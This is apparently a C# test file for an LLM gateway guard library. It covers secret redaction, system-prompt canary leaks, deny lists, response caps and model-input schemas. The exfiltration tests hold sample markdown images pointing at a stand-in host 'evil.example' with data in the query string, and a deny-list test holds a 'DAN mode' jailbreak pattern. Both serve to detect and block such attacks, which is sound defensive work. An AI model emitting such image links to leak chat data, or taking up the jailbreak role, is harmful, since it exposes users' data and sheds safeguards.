using System.Text;
using System.Text.Json.Nodes;
using Rampart.Guard.Checks;
using Rampart.Guard.Pipeline;
using Rampart.Guard.Protocols;
using Rampart.Text.Detection;

namespace Rampart.Guard.Tests.Checks;

public sealed class ShippedChecksTests
{
    private const string Token = "hf_abcdefghijklmnopqrstuvwxyz0123456789";

    private static GuardRequest Request(GuardPayload payload, GuardProtocol protocol = GuardProtocol.OpenAiChat) =>
        new("r", GuardPrincipal.Offline, "/x", "m", "chat", protocol, payload, DateTimeOffset.UnixEpoch);

    [Fact]
    public async Task Secrets_RedactedInPlace_AndWrittenBackToTheWire()
    {
        var body = ProtocolReader.ReadRequest(GuardProtocol.OpenAiChat, Encoding.UTF8.GetBytes(
            $$"""{"model":"m","messages":[{"role":"system","content":"ok"},{"role":"user","content":"use {{Token}} please"}]}""")).Body!;
        var pipeline = new GuardPipeline([new TextCheckAdapter(new SensitiveTextCheck(TextHitKind.Secret))], []);
        var outcome = await pipeline.CheckInputAsync(Request(body.Payload), GuardContext.System, default);
        outcome.Action.Should().Be(GuardAction.Redact);
        outcome.Signals.Single().Reason.Should().NotContain(Token).And.Contain("huggingface-token");
        var wire = Encoding.UTF8.GetString(body.Write(outcome.Payload));
        wire.Should().NotContain(Token).And.Contain("[REDACTED:RAMP-GUARD-001]").And.Contain("\"content\":\"ok\"");
    }

    [Theory]
    [InlineData(GuardAction.Block)]
    [InlineData(GuardAction.Annotate)]
    public void Secrets_ActionIsConfigurable(GuardAction action) =>
        new TextCheckAdapter(new SensitiveTextCheck(TextHitKind.Secret, action)).Apply(new TextPayload([Token], TextSource.ModelOutput)).Action.Should().Be(action);

    [Theory]
    [InlineData("the prompt says rmp-canary-selftest-0001 at the top", true)]
    [InlineData("RMP-CANARY-SELFTEST-0001", true)]
    [InlineData("rmp-canary-self test-00 01", true)]
    [InlineData("rmp-canary-selftest-000", false)]
    [InlineData("rmp canary selftest 0001", false)]
    public void Canary_FoundInOutput_EvenWithInsertedSpaces(string answer, bool leaked)
    {
        var check = new CanaryCheck([GuardRuleSelfTests.Canary]);
        check.Check(answer, TextSource.ModelOutput).Should().HaveCount(leaked ? 1 : 0);
        check.AppliesTo(TextSource.UserInput).Should().BeFalse("a canary in a user's message is not a leak");
    }

    [Fact]
    public void Canary_ShortTokensAreRefused_NewTokensAreRandom()
    {
        var act = () => new CanaryCheck(["abc"]);
        act.Should().Throw<ArgumentException>();
        CanaryCheck.NewToken().Should().NotBe(CanaryCheck.NewToken()).And.StartWith("rmp-").And.HaveLength(28);
    }

    [Theory]
    [InlineData("![x](https://cdn.allowed.test/a.png)", 0)]
    [InlineData("![x](https://img.cdn.allowed.test/a.png)", 0)]
    [InlineData("![x](https://allowed.test.evil.example/a.png)", 1)]
    [InlineData("![x](https://evil.example/a.png?c=chat)", 1)]
    [InlineData("![x]( <https://evil.example/a.png> \"title\")", 1)]
    [InlineData("<IMG SRC=https://evil.example/a.png>", 1)]
    [InlineData("![x](data:image/png;base64,AAAA)", 0)]
    public void Exfiltration_ImagesToOutsideHosts(string answer, int images) =>
        new ExfiltrationCheck(["allowed.test"]).Check(answer, TextSource.ModelOutput).Count(f => f.Signal.RuleId == GuardRuleIds.MarkdownImage).Should().Be(images);

    [Fact]
    public void Exfiltration_ImageIsRedactedWhole_LinkOnlyAnnotated()
    {
        var decision = new TextCheckAdapter(new ExfiltrationCheck(["allowed.test"])).Apply(new TextPayload(["see ![p](https://evil.example/p?d=secret) and https://other.example/x"], TextSource.ModelOutput));
        decision.Action.Should().Be(GuardAction.Redact);
        var text = decision.Rewritten!.Texts().Single().Text;
        text.Should().NotContain("evil.example").And.Contain("https://other.example/x");
        decision.Signals.Select(s => s.RuleId).Should().BeEquivalentTo([GuardRuleIds.MarkdownImage, GuardRuleIds.UnlistedLink]);
    }

    [Fact]
    public void DenyList_WholeWordsAndPatterns()
    {
        var check = new DenyListCheck(["project x"], [@"\bDAN\s+mode\b"]);
        check.Check("tell me about Project   X", TextSource.UserInput).Should().ContainSingle();
        check.Check("tell me about project xylophone", TextSource.UserInput).Should().BeEmpty();
        check.Check("enable dan mode", TextSource.UserInput).Should().ContainSingle().Which.Action.Should().Be(GuardAction.Block);
    }

    [Fact]
    public async Task ResponseCaps_EstimateTokensWhenUsageIsMissing()
    {
        var check = new ResponseCapCheck(maxTokens: 10);
        var longAnswer = new GuardResponse(200, new ChatPayload([new ChatMessage("assistant", new string('a', 60))], IsResponse: true));
        (await check.CheckAsync(Request(longAnswer.Payload), longAnswer, GuardContext.System, default)).Action.Should().Be(GuardAction.Block);
        var reported = longAnswer with { OutputTokens = 5 };
        (await check.CheckAsync(Request(reported.Payload), reported, GuardContext.System, default)).Action.Should().Be(GuardAction.Allow);
    }

    [Theory]
    [InlineData("""{"instances":[{"segment":"a","age":30,"income":5}]}""", GuardAction.Allow)]
    [InlineData("""{"instances":[{"segment":"a","age":30,"wealth":5}]}""", GuardAction.Block)]
    [InlineData("""{"instances":[[30,5,"a"],[30,5,"a"],[30,5,"a"],[30,5,"a"],[30,5,"a"]]}""", GuardAction.Block)]
    [InlineData("""{"instances":[[30,null,"a"]]}""", GuardAction.Block)]
    [InlineData("""{"instances":[[30,1e400,"a"]]}""", GuardAction.Block)]
    public async Task PredictSchema_NamedRowsBatchMissingAndInfinity(string json, GuardAction expected)
    {
        var read = ProtocolReader.ReadRequest(GuardProtocol.TfServing, Encoding.UTF8.GetBytes(json));
        if (!read.Ok)
        {
            expected.Should().Be(GuardAction.Block, read.Error!.Message);
            return;
        }

        (await new PredictSchemaCheck(GuardRuleSelfTests.Profile).CheckAsync(Request(read.Body!.Payload, GuardProtocol.TfServing), GuardContext.System, default))
            .Action.Should().Be(expected);
    }

    [Theory]
    [InlineData("model: m\nfeatures: []")]
    [InlineData("model: m\nfeatures:\n  - { name: a, type: complex }")]
    [InlineData("model: m\nfeatures:\n  - { name: a, colour: red }")]
    [InlineData("features:\n  - { name: a }")]
    [InlineData("{ not yaml")]
    public void ModelProfile_BadFiles_AreClearErrors(string text)
    {
        var act = () => ModelProfile.Parse(text, "p.yaml");
        act.Should().Throw<InvalidDataException>().WithMessage("p.yaml*");
    }

    [Fact]
    public void ModelProfile_JsonIsAccepted() =>
        ModelProfile.Parse("""{"model":"m","features":[{"name":"a","type":"integer","min":0}]}""", "p.json").Features.Single().Type.Should().Be(FeatureType.WholeNumber);

    [Theory]
    [InlineData(MaskingMode.Round, """[0.12,0.35,0.53]""")]
    [InlineData(MaskingMode.TopK, """[0,0,0.53]""")]
    [InlineData(MaskingMode.LabelOnly, "2")]
    public async Task ConfidenceMasking_ModesReachTheWire(MaskingMode mode, string expected)
    {
        var body = ProtocolReader.ReadResponse(GuardProtocol.TfServing, Encoding.UTF8.GetBytes("""{"predictions":[[0.1234,0.3456,0.531]],"model_version":"7"}""")).Body!;
        var response = new GuardResponse(200, body.Payload);
        var pipeline = new GuardPipeline([], [new ConfidenceMaskingCheck(mode, 2, 1)]);
        var outcome = await pipeline.CheckOutputAsync(Request(body.Payload, GuardProtocol.TfServing), response, GuardContext.System, default);
        var wire = JsonNode.Parse(body.Write(outcome.Payload))!;
        wire["predictions"]![0]!.ToJsonString().Should().Be(expected);
        wire["model_version"]!.GetValue<string>().Should().Be("7");
        outcome.RuleIds.Should().Equal(GuardRuleIds.ConfidenceMasked);
    }
}
